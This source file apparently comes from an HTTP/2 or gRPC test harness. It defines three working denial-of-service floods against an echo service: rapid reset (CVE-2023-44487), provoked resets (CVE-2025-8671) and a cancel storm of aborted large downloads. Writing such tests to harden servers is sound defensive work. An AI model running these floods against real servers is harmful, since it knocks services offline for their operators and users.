import { downloadRequest, EchoService } from '../../echo.js';
import { CANCEL, callBlock, END_HEADERS, frame, message, Type, uint32 } from '../frames.js';
import { rawAttack } from '../raw-attack.js';
import { keepOpen, openCall, sessionAttack } from '../session-attack.js';

const STREAMS_AT_ONCE = 100;

/** Opens streams for ever, a hundred in a chunk, each followed by a frame. */
function* streams(followedBy: (id: number) => Buffer): Generator<Buffer> {
  const block = callBlock();
  for (let id = 1; ; ) {
    const frames: Buffer[] = [];
    for (const end = id + 2 * STREAMS_AT_ONCE; id < end; id += 2) {
      frames.push(frame(Type.HEADERS, END_HEADERS, id, block), followedBy(id));
    }
    yield Buffer.concat(frames);
  }
}

/** CVE-2023-44487. */
export const rapidReset = rawAttack({
  name: 'rapid reset',
  bytes: () => streams((id) => frame(Type.RST_STREAM, 0, id, uint32(CANCEL))),
});

/** CVE-2025-8671: the server is made to reset each stream itself. */
export const provokedResets = rawAttack({
  name: 'provoked resets',
  bytes: () => streams((id) => frame(Type.WINDOW_UPDATE, 0, id, uint32(0))),
});

const SEEN_BYTES = 65_536;
const LARGE = message(downloadRequest(1_000, 65_536));

/** Each call takes 64 kB of a large answer and is cancelled then. */
export const cancelStorm = sessionAttack('cancel storm', (session) =>
  keepOpen(session, 200, () => {
    const stream = openCall(session, EchoService.download.path);
    let seen = 0;
    stream.on('data', (chunk: Buffer) => {
      seen += chunk.length;
      if (seen >= SEEN_BYTES) stream.close(CANCEL);
    });
    stream.end(LARGE);
    return stream;
  }),
);
